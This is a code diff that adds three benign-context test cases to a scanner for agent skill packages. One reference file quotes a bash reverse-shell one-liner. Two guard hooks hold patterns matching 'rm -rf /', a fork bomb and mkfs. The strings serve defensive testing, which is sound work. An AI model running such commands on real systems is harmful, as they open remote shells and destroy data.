@@ -556,4 +556,44 @@ export const BENIGN: ScannerCase[] = [
     },
     expect: ["destructive.drop-database@example"],
   },
+  {
+    name: "review-skill-plain-reference",
+    files: {
+      "SKILL.md": md(
+        "review-skill-plain-reference",
+        "Security review of pull requests: finds vulnerabilities and attack paths.",
+        "Compare suspicious diffs with references/common.md.\n",
+      ),
+      "references/common.md":
+        "# Common shapes\n\n```bash\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n```\n",
+    },
+    expect: ["network.reverse-shell@example"],
+  },
+  {
+    name: "hook-double-bracket",
+    files: {
+      "SKILL.md": md(
+        "hook-double-bracket",
+        "A guard hook for shell commands.",
+        "Install scripts/guard.sh.\n",
+      ),
+      "scripts/guard.sh": sh(
+        'cmd="$1"\nif [[ "$cmd" == *"rm -rf /"* || "$cmd" == *":(){ :|:& };:"* ]]; then\n  exit 2\nfi',
+      ),
+    },
+    expect: ["destructive.rm-rf-root@detect", "destructive.fork-bomb@detect"],
+  },
+  {
+    name: "hooks-json-command",
+    files: {
+      "SKILL.md": md(
+        "hooks-json-command",
+        "Agent hooks that stop destructive commands.",
+        "Merge assets/hooks.json into your settings.\n",
+      ),
+      "assets/hooks.json":
+        '{\n  "PreToolUse": [\n    { "matcher": "Bash", "command": "grep -qE \'rm -rf /|mkfs\\\\.\' && exit 2 || exit 0" }\n  ]\n}\n',
+    },
+    expect: ["destructive.rm-rf-root@detect"],
+  },
 ];
